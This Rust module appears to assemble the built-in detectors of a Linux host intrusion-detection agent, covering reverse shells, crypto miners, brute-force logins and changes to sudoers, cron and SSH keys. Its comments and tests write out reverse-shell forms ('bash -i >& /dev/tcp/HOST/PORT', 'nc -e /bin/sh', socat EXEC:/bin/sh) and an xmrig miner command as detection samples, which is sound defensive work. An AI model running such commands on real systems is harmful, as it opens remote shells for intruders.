//! Built-in detectors: what a single-event rule cannot say. One file each,
//! each a plain struct fed `(event)` / `tick(now)` returning alerts.
//!
//! Every detector's state is bounded (a [`Bounded`] map with its cap stated
//! where it is made, or a fixed-size table): a hostile process that forks,
//! connects or fails logins without end makes the detector forget its oldest
//! entries, never grow. Time is always the event's (`ev.time`).
//!
//! A few detectors read /proc (under `DetectConfig::proc_root`) at a rare
//! moment: the listening sockets at start (`new-listener`,
//! `shell-from-service`), a shell's stdin/stdout at its exec (`reverse-shell`),
//! the executable of a process that gained uid 0 (`privilege-escalation`).
//! Nothing is read for the common events.

mod agent_tampering;
mod bounded;
mod cron_changed;
mod crypto_miner;
mod exec_from_tmp;
mod failures;
mod file_change;
mod ld_preload_set;
mod login_after_failures;
mod login_brute_force;
mod new_listener;
mod passwd_changed;
mod privilege_escalation;
mod procfs;
mod reverse_shell;
mod shell_from_service;
mod ssh_key_added;
mod sudoers_changed;
mod system_binary_replaced;
mod user_account_change;

#[cfg(test)]
pub(crate) mod testing;

use std::{collections::BTreeMap, sync::Arc};

pub use agent_tampering::AgentTampering;
pub use bounded::{Bounded, PidMap};
pub use crypto_miner::CryptoMiner;
pub use exec_from_tmp::ExecFromTmp;
pub use login_after_failures::LoginAfterFailures;
pub use login_brute_force::LoginBruteForce;
pub use new_listener::NewListener;
pub use privilege_escalation::PrivilegeEscalation;
pub use reverse_shell::ReverseShell;
pub use shell_from_service::ShellFromService;
pub use user_account_change::UserAccountChange;

use super::{Alert, DetectConfig, DetectError, Detector, Severity};
use crate::events::{Event, Exec};

/// The ids of the built-in detectors (what `--disable-rule` and `disabled`
/// name).
pub const IDS: [&str; 16] = [
    exec_from_tmp::RULE.id,
    shell_from_service::RULE.id,
    reverse_shell::RULE.id,
    login_brute_force::RULE.id,
    login_after_failures::RULE.id,
    new_listener::RULE.id,
    privilege_escalation::RULE.id,
    crypto_miner::RULE.id,
    user_account_change::RULE.id,
    agent_tampering::RULE.id,
    ssh_key_added::RULE.id,
    passwd_changed::RULE.id,
    sudoers_changed::RULE.id,
    cron_changed::RULE.id,
    ld_preload_set::RULE.id,
    system_binary_replaced::RULE.id,
];

/// The enabled built-in detectors.
pub fn detectors(cfg: &DetectConfig) -> Result<Vec<Box<dyn Detector>>, DetectError> {
    let mut out: Vec<Box<dyn Detector>> = Vec::new();
    let on = |id: &str| !cfg.is_disabled(id);
    if on(exec_from_tmp::RULE.id) {
        out.push(Box::new(ExecFromTmp::new(cfg)?));
    }
    if on(shell_from_service::RULE.id) {
        out.push(Box::new(ShellFromService::new(cfg)));
    }
    if on(reverse_shell::RULE.id) {
        out.push(Box::new(ReverseShell::new(cfg)));
    }
    if on(login_brute_force::RULE.id) {
        out.push(Box::new(LoginBruteForce::new(cfg)?));
    }
    if on(login_after_failures::RULE.id) {
        out.push(Box::new(LoginAfterFailures::new(cfg)?));
    }
    if on(new_listener::RULE.id) {
        out.push(Box::new(NewListener::new(cfg)));
    }
    if on(privilege_escalation::RULE.id) {
        out.push(Box::new(PrivilegeEscalation::new(cfg)));
    }
    if on(crypto_miner::RULE.id) {
        out.push(Box::new(CryptoMiner::new()));
    }
    if on(user_account_change::RULE.id) {
        out.push(Box::new(UserAccountChange::new()));
    }
    if on(agent_tampering::RULE.id) {
        out.push(Box::new(AgentTampering::new(cfg)));
    }
    // File integrity: one stateless rule each over `file` events.
    for (id, make) in [
        (ssh_key_added::RULE.id, ssh_key_added::detector as fn(&DetectConfig) -> file_change::FileChange),
        (passwd_changed::RULE.id, passwd_changed::detector),
        (sudoers_changed::RULE.id, sudoers_changed::detector),
        (cron_changed::RULE.id, cron_changed::detector),
        (ld_preload_set::RULE.id, ld_preload_set::detector),
        (system_binary_replaced::RULE.id, system_binary_replaced::detector),
    ] {
        if on(id) {
            out.push(Box::new(make(cfg)));
        }
    }
    Ok(out)
}

/// What a built-in rule says about itself: the fixed part of its alerts.
pub struct Rule {
    pub id: &'static str,
    pub title: &'static str,
    pub severity: Severity,
    pub tags: &'static [&'static str],
    /// Why it matters and what the detector can and cannot see; follows the
    /// alert's own first sentence (what happened).
    pub description: &'static str,
    pub remediation: &'static str,
}

impl Rule {
    /// An alert of this rule about `ev`: `what` (what happened, which signal
    /// fired) first, then the rule's description.
    pub fn alert(
        &self,
        ev: &Event,
        severity: Severity,
        what: String,
        details: BTreeMap<&'static str, String>,
    ) -> Alert {
        Alert {
            rule: self.id.into(),
            title: self.title.into(),
            severity,
            source: "builtin",
            tags: self.tags.iter().map(|t| Arc::from(*t)).collect(),
            description: format!("{what} {}", self.description),
            remediation: self.remediation.into(),
            details,
            event: Box::new(ev.clone()),
        }
    }
}

/// The last component of a path (`/usr/bin/python3` -> `python3`).
pub(crate) fn base_name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// The executable a successful exec runs: the process table's (absolute, or
/// /proc's for relative names), else the name as passed.
pub(crate) fn exec_path<'a>(ev: &'a Event, x: &'a Exec) -> &'a str {
    ev.exe.as_deref().unwrap_or(&x.filename)
}

/// The name a program goes by: its executable's base name, `busybox` applets
/// by their applet (argv[0], or argv[1] for `busybox sh`).
pub(crate) fn program_name<'a>(ev: &'a Event, x: &'a Exec) -> &'a str {
    let name = base_name(exec_path(ev, x));
    if name == "busybox" {
        let arg0 = x.argv.first().map(|a| base_name(a)).unwrap_or("");
        if arg0 != "busybox" && !arg0.is_empty() {
            return arg0;
        }
        return x.argv.get(1).map(|a| base_name(a)).unwrap_or(name);
    }
    name
}

/// A command shell or a scripting interpreter that gives one, by program
/// name. `nc`/`ncat`/`netcat`/`socat` count only when told to run a program
/// (`-e`/`-c`, socat's `exec:`/`system:`): then they hand out a shell.
pub(crate) fn is_shell(name: &str, argv: &[String]) -> bool {
    const SHELLS: &[&str] =
        &["sh", "bash", "dash", "ash", "zsh", "ksh", "mksh", "pdksh", "csh", "tcsh", "fish", "rbash"];
    const INTERPRETERS: &[&str] = &["perl", "ruby", "php", "lua", "tclsh", "wish"];
    let name = name.strip_prefix('-').unwrap_or(name); // login shells: "-bash"
    if SHELLS.contains(&name) || INTERPRETERS.contains(&name) {
        return true;
    }
    if let Some(v) = name.strip_prefix("python") {
        // python, python3, python3.11
        return v.chars().all(|c| c.is_ascii_digit() || c == '.');
    }
    if let Some(v) = name.strip_prefix("perl").or_else(|| name.strip_prefix("ruby")) {
        return v.chars().all(|c| c.is_ascii_digit() || c == '.');
    }
    match name {
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" => argv
            .iter()
            .skip(1)
            .any(|a| a == "-e" || a == "-c" || a.starts_with("--exec") || a.starts_with("--sh-exec")),
        "socat" => argv.iter().skip(1).any(|a| {
            let a = a.to_ascii_lowercase();
            a.starts_with("exec:") || a.starts_with("system:")
        }),
        _ => false,
    }
}

/// A plain command shell (no interpreters): what `reverse-shell` looks for in
/// a process that connects out itself (`bash -i >& /dev/tcp/HOST/PORT`).
pub(crate) fn is_command_shell(name: &str) -> bool {
    let name = name.strip_prefix('-').unwrap_or(name);
    matches!(
        name,
        "sh" | "bash" | "dash" | "ash" | "zsh" | "ksh" | "mksh" | "csh" | "tcsh" | "fish" | "rbash"
    )
}

/// The argument vector as one line (for details).
pub(crate) fn command_line(argv: &[String]) -> String {
    argv.join(" ")
}

#[cfg(test)]
mod tests {
    use super::{testing::*, *};

    #[test]
    fn every_detector_by_default_and_disabled_ones_left_out() {
        let s = Scratch::new("all");
        let cfg = s.config();
        let ids: Vec<&str> = detectors(&cfg).unwrap().iter().map(|d| d.id()).collect();
        assert_eq!(ids, IDS);
        for id in IDS {
            let mut cfg = s.config();
            cfg.disabled.insert(id.to_owned());
            let ids: Vec<&str> = detectors(&cfg).unwrap().iter().map(|d| d.id()).collect();
            assert_eq!(ids.len(), IDS.len() - 1);
            assert!(!ids.contains(&id), "{id} disabled but created");
        }
        let mut bad = s.config();
        bad.builtin.tmp_dirs = vec!["tmp".into()];
        assert!(matches!(detectors(&bad), Err(DetectError::Invalid { .. })));
    }

    #[test]
    fn the_stage_runs_them_and_a_disabled_one_stays_quiet() {
        let s = Scratch::new("stage");
        let mut cfg = s.config();
        let mut ev = exec(0.0, 10, 1, "/tmp/xmrig", &["xmrig", "-o", "stratum+tcp://p:3333"]);
        let mut stage = crate::detect::Detect::new(&cfg).unwrap();
        let mut out = Vec::new();
        stage.process(&mut ev, &mut out);
        let rules: Vec<String> = out
            .iter()
            .map(|e| match &e.body {
                crate::events::Body::Alert(a) => a.rule.to_string(),
                _ => panic!("not an alert: {e:?}"),
            })
            .collect();
        assert_eq!(rules, ["exec-from-tmp", "crypto-miner"]);
        cfg.disabled.insert("crypto-miner".into());
        let mut stage = crate::detect::Detect::new(&cfg).unwrap();
        out.clear();
        stage.process(&mut ev, &mut out);
        assert_eq!(out.len(), 1);
    }

    #[test]
    fn shells_and_interpreters() {
        let argv = |a: &[&str]| a.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        for name in [
            "sh",
            "bash",
            "-bash",
            "dash",
            "zsh",
            "python",
            "python3",
            "python3.11",
            "perl",
            "perl5.36",
            "ruby",
        ] {
            assert!(is_shell(name, &[]), "{name}");
        }
        for name in ["shred", "bashbug", "pythonista", "node", "ls", "sshd"] {
            assert!(!is_shell(name, &[]), "{name}");
        }
        assert!(is_shell("nc", &argv(&["nc", "-e", "/bin/sh", "h", "1"])));
        assert!(!is_shell("nc", &argv(&["nc", "h", "1"])));
        assert!(is_shell("socat", &argv(&["socat", "TCP:h:1", "EXEC:/bin/sh"])));
        let mut bb = exec(0.0, 1, 1, "/bin/busybox", &["busybox", "sh"]);
        bb.exe = Some("/bin/busybox".into());
        let crate::events::Body::Exec(x) = &bb.body else { unreachable!() };
        assert_eq!(program_name(&bb, x), "sh");
    }
}
